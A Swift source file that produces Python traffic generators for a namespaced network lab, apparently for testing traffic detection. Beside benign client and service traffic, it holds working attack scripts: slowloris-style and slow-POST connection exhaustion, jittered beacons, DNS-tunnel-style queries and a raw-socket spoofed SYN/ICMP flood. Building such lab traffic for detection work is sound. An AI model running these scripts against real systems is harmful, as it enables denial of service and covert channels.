/// Small Python programs the lab runs inside its namespaces.
enum Scripts {
    static func udpEcho(address: String, port: Int) -> String {
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("\(address)", \(port)))
        while True:
            d, peer = s.recvfrom(2048); s.sendto(d[:12] + b"\\x81\\x80" + d[14:] + b"\\x00" * 16, peer)
        """
    }

    static func tcpSink(address: String, port: Int) -> String {
        """
        import socket, threading
        l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("\(address)", \(port))); l.listen(256)
        def serve(c):
            try:
                while True:
                    d = c.recv(262144)
                    if not d: break
                    if len(d) < 200: c.sendall(b"ok\\n")
            except OSError: pass
            c.close()
        while True:
            c, _ = l.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
        """
    }

    static func normalClient(source: String, server: String, seconds: Double, seed: Int) -> String {
        """
        import random, socket, time, urllib.request, subprocess
        random.seed(\(seed)); end = time.time() + \(seconds)
        def get(path):
            s = socket.create_connection(("\(server)", 80), timeout=5, source_address=("\(source)", 0))
            s.sendall(("GET /%s HTTP/1.1\\r\\nHost: lab\\r\\nConnection: close\\r\\n\\r\\n" % path).encode())
            while s.recv(65536): pass
            s.close()
        while time.time() < end:
            r = random.random()
            try:
                if r < 0.55:
                    for p in random.sample(["index.html", "page.html", "app.js"], random.randint(1, 3)): get(p)
                elif r < 0.85:
                    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("\(source)", 0)); u.settimeout(1)
                    u.sendto(bytes([random.randrange(256), 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b"\\x07example\\x03lab\\x00\\x00\\x01\\x00\\x01", ("\(server)", 53)); u.recv(2048); u.close()
                elif r < 0.95:
                    subprocess.run(["ping", "-c", "2", "-i", "0.2", "-q", "-I", "\(source)", "\(server)"], stdout=subprocess.DEVNULL)
                else:
                    get("bulk.bin")
            except OSError: pass
            time.sleep(random.uniform(0.2, 1.2))
        """
    }

    /// A UDP port that takes datagrams and answers none (a metrics sink).
    static func udpSink(address: String, port: Int) -> String {
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("\(address)", \(port)))
        while True: s.recvfrom(2048)
        """
    }

    /// The site's machine traffic beside its users: NTP-like queries from
    /// every client at a fixed period, an update-like download and a
    /// backup-like upload now and then, a chatty service pushing small
    /// metrics datagrams several times a second, and idle keep-alive
    /// connections that send a few bytes twice a minute. Periods and phases
    /// come from `seed`.
    static func siteJobs(clients: [String], server: String, outside: String, seconds: Double, seed: Int) -> String {
        let list = clients.map { "\"\($0)\"" }.joined(separator: ", ")
        return """
        import random, socket, threading, time
        random.seed(\(seed)); end = time.time() + \(seconds); clients = [\(list)]
        def every(period, spread, job, phase):
            time.sleep(phase)
            while time.time() < end:
                try: job()
                except OSError: pass
                time.sleep(period * random.uniform(1 - spread, 1 + spread))
        def ntp(source):
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind((source, 0)); u.settimeout(1)
            u.sendto(b"\\x23" + b"\\x00" * 47, ("\(server)", 123)); u.recv(2048); u.close()
        def update():
            s = socket.create_connection(("\(server)", 80), timeout=5, source_address=(clients[1 % len(clients)], 0))
            s.sendall(b"GET /bulk.bin HTTP/1.1\\r\\nHost: lab\\r\\nConnection: close\\r\\n\\r\\n")
            while s.recv(65536): pass
            s.close()
        def backup():
            s = socket.create_connection(("\(outside)", 8443), timeout=5, source_address=(clients[2 % len(clients)], 0))
            chunk = b"b" * 65536
            for _ in range(random.randint(40, 120)): s.sendall(chunk)
            s.close()
        metrics = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); metrics.bind((clients[0], 0))
        def chatty():
            metrics.sendto(b"app.requests:%d|c" % random.randint(1, 999) + b" " * random.randint(20, 150), ("\(server)", 8125))
        def keepalive(phase):
            time.sleep(phase)
            s = socket.create_connection(("\(outside)", 443), timeout=5, source_address=(clients[1 % len(clients)], 0))
            while time.time() < end:
                time.sleep(30 * random.uniform(0.9, 1.1))
                s.sendall(b"k\\n"); s.recv(16)
            s.close()
        jobs = [threading.Thread(target=every, args=(random.choice([16, 32]), 0.01, lambda c=c: ntp(c), random.uniform(0, 16))) for c in clients]
        jobs += [threading.Thread(target=every, args=(random.uniform(80, 140), 0.3, update, random.uniform(5, 60))),
                 threading.Thread(target=every, args=(random.uniform(120, 200), 0.1, backup, random.uniform(10, 90))),
                 threading.Thread(target=every, args=(0.2, 0.5, chatty, 0))]
        jobs += [threading.Thread(target=keepalive, args=(random.uniform(0, 20),)) for _ in range(4)]
        for j in jobs: j.daemon = True; j.start()
        while time.time() < end: time.sleep(1)
        """
    }

    static func slowConnections(source: String, server: String, count: Int, seconds: Double) -> String {
        """
        import socket, time
        conns = []
        for i in range(\(count)):
            try:
                s = socket.create_connection(("\(server)", 80), timeout=2, source_address=("\(source)", 0))
                s.sendall(b"GET / HTTP/1.1\\r\\nHost: lab\\r\\n"); conns.append(s)
            except OSError: pass
        end = time.time() + \(seconds)
        while time.time() < end:
            for s in conns:
                try: s.sendall(b"X-a: b\\r\\n")
                except OSError: pass
            time.sleep(2)
        """
    }

    /// Small connections every `interval` seconds, each gap drawn within ±`jitter` of it.
    static func beacon(source: String, target: String, port: Int, interval: Double, jitter: Double, count: Int) -> String {
        """
        import random, socket, time
        random.seed(42)
        for i in range(\(count)):
            try:
                s = socket.create_connection(("\(target)", \(port)), timeout=2, source_address=("\(source)", 0))
                s.sendall(b"beacon id=42 seq=%04d" % i); s.recv(16); s.close()
            except OSError: pass
            time.sleep(\(interval) * random.uniform(1 - \(jitter), 1 + \(jitter)))
        """
    }

    /// DNS-style queries whose names carry data (hex or base32 in labels of
    /// up to 63 characters under t.lab), `rate` a second to one resolver:
    /// what a DNS tunnel sends. One socket for all queries, or a new one each.
    static func dnsTunnel(source: String, resolver: String, rate: Int, dataCharacters: Int, base32: Bool,
                          socketPerQuery: Bool, seconds: Double) -> String {
        """
        import base64, os, random, socket, struct, time
        random.seed(11)
        def name():
            raw = os.urandom(\(dataCharacters))
            text = (base64.b32encode(raw).decode().rstrip("=").lower() if \(base32 ? "True" : "False") else raw.hex())[:\(dataCharacters)]
            labels = [text[i:i + 63] for i in range(0, len(text), 63)] + ["t", "lab"]
            return b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\\x00"
        def sock():
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("\(source)", 0)); u.settimeout(0.5); return u
        u = sock(); start = time.time(); n = 0
        while time.time() < start + \(seconds):
            if \(socketPerQuery ? "True" : "False"): u.close(); u = sock()
            q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + name() + struct.pack("!HH", 16, 1)
            try: u.sendto(q, ("\(resolver)", 53)); u.recv(2048)
            except OSError: pass
            n += 1
            time.sleep(max(0, start + n / \(rate) - time.time()))
        """
    }

    /// Slow POST (R-U-Dead-Yet style): `count` connections announce a large
    /// body, then send one byte of it every `interval` seconds.
    static func slowPost(source: String, target: String, port: Int, count: Int, interval: Double, seconds: Double) -> String {
        """
        import socket, time
        conns = []
        for i in range(\(count)):
            try:
                s = socket.create_connection(("\(target)", \(port)), timeout=2, source_address=("\(source)", 0))
                s.sendall(b"POST /upload HTTP/1.1\\r\\nHost: lab\\r\\nContent-Length: 1000000\\r\\n\\r\\n"); conns.append(s)
            except OSError: pass
        end = time.time() + \(seconds)
        while time.time() < end:
            for s in conns:
                try: s.sendall(b"a")
                except OSError: pass
            time.sleep(\(interval))
        """
    }

    /// One upload of `bytes`, paced to `bytesPerSecond` when given.
    static func upload(source: String, target: String, port: Int, bytes: Int, bytesPerSecond: Int?) -> String {
        """
        import socket, time
        s = socket.create_connection(("\(target)", \(port)), timeout=5, source_address=("\(source)", 0))
        chunk = b"z" * 65536; left = \(bytes); rate = \(bytesPerSecond ?? 0); start = time.time(); sent = 0
        while left > 0:
            n = min(left, len(chunk)); s.sendall(chunk[:n]); left -= n; sent += n
            if rate: time.sleep(max(0, start + sent / rate - time.time()))
        s.close()
        """
    }

    /// TCP SYNs (protocol 6, to `port`) or ICMP echo requests (protocol 1)
    /// from forged sources spread over 198.19.0.0/16, as raw IPv4 packets.
    /// The lab's servers have no route back to those sources, so no reply
    /// leaves their namespace.
    static func spoofedFlood(server: String, protocol proto: Int, port: Int, rate: Int, seconds: Double) -> String {
        """
        import random, socket, struct, time
        random.seed(7)
        def csum(b):
            if len(b) % 2: b += b"\\0"
            t = sum(struct.unpack("!%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
            return ~t & 0xffff
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        dst = socket.inet_aton("\(server)"); proto = \(proto)
        start = time.time(); n = 0
        while time.time() < start + \(seconds):
            src = bytes([198, 19, random.randrange(256), random.randrange(1, 255)])
            if proto == 6:
                body = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), \(port), random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
                c = csum(src + dst + struct.pack("!BBH", 0, 6, len(body)) + body)
                body = body[:16] + struct.pack("!H", c) + body[18:]
            else:
                body = struct.pack("!BBHHH", 8, 0, 0, random.getrandbits(16), n & 0xffff) + b"\\0" * 256
                body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), n & 0xffff, 0, 64, proto, 0, src, dst)
            s.sendto(ip + body, ("\(server)", 0)); n += 1
            time.sleep(max(0, start + n / \(rate) - time.time()))
        """
    }
}
